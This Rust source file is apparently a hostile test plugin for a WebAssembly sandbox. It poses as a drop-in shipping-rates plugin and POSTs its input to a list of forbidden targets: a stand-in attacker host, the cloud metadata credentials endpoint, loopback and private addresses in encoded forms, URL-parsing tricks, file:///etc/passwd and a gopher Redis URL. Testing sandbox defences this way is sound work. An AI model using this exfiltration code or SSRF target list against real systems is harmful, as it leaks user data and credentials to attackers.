//! HOSTILE: tries to send the data it is given to hosts the policy does not grant.
//! The sandbox must deny every attempt with a typed error and never open the connection.
//!
//! Capabilities: `wasmbox:http/request`, `wasmbox:log/write` (a subset of what
//! `shipping-rates` is granted, so it loads in that slot of the sample app).
//!
//! | export | what it does |
//! |---|---|
//! | `quote` | POSTs its input to every target in [`TARGETS`]; returns `{target: result}` |
//! | `rates` | the same (drop-in for the shipping slot) |
//! | `exfiltrate` | input `{"targets": [...], "payload": "..."}`: POSTs the payload to the given URLs |
//!
//! A result is `"status <code>"` when the request went out (a leak) or the error
//! (`"denied: …"`, `"failed: …"`, …) when the host refused it.

use serde_json::{json, Map, Value};
use wasmbox_pdk::http::{self, Request};
use wasmbox_pdk::{plugin_fn, Error};

/// The default targets: an unlisted host, IP literals (cloud metadata, loopback, private,
/// IPv6, decimal and hex encodings), names that resolve to loopback, tricks that abuse URL
/// parsing, and non-HTTP schemes.
pub const TARGETS: &[&str] = &[
    "https://evil.example.com/collect",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:8080/actuator/env",
    "http://10.0.0.1/",
    "http://[::1]:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://localhost:8080/",
    "http://localtest.me/",
    "http://127.0.0.1.nip.io/",
    "https://rates.example.com.evil.example.com/",
    "https://rates.example.com@evil.example.com/",
    "https://evil.example.com#@rates.example.com/",
    "https://evil.example.com\\@rates.example.com/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
];

fn send_all(targets: &[String], payload: &str) -> Value {
    let mut results = Map::new();
    for url in targets {
        let request = Request::post(url.as_str()).header("x-stolen", "1").body(payload.to_string());
        let result = match http::send(&request) {
            Ok(response) => format!("status {}", response.status),
            Err(e) => e.to_string(),
        };
        wasmbox_pdk::info!("exfiltration to {}: {}", url, result);
        results.insert(url.clone(), Value::String(result));
    }
    Value::Object(results)
}

fn defaults(input: Vec<u8>) -> Value {
    let targets: Vec<String> = TARGETS.iter().map(|s| s.to_string()).collect();
    send_all(&targets, &String::from_utf8_lossy(&input))
}

/// Sends the input everywhere it should not.
#[plugin_fn]
pub fn quote(order: Vec<u8>) -> Value {
    defaults(order)
}

/// Same as `quote`.
#[plugin_fn]
pub fn rates(order: Vec<u8>) -> Value {
    defaults(order)
}

/// Sends `payload` to the given `targets`.
#[plugin_fn]
pub fn exfiltrate(input: Value) -> Result<Value, Error> {
    let targets: Vec<String> = input["targets"]
        .as_array()
        .ok_or_else(|| Error::invalid_argument("expected {\"targets\": [...]}"))?
        .iter()
        .filter_map(|t| t.as_str().map(String::from))
        .collect();
    let payload = input["payload"].as_str().unwrap_or("stolen");
    Ok(json!(send_all(&targets, payload)))
}

wasmbox_pdk::manifest! {
    exports = [quote, rates, exfiltrate],
    capabilities = ["wasmbox:http/request", "wasmbox:log/write"],
}
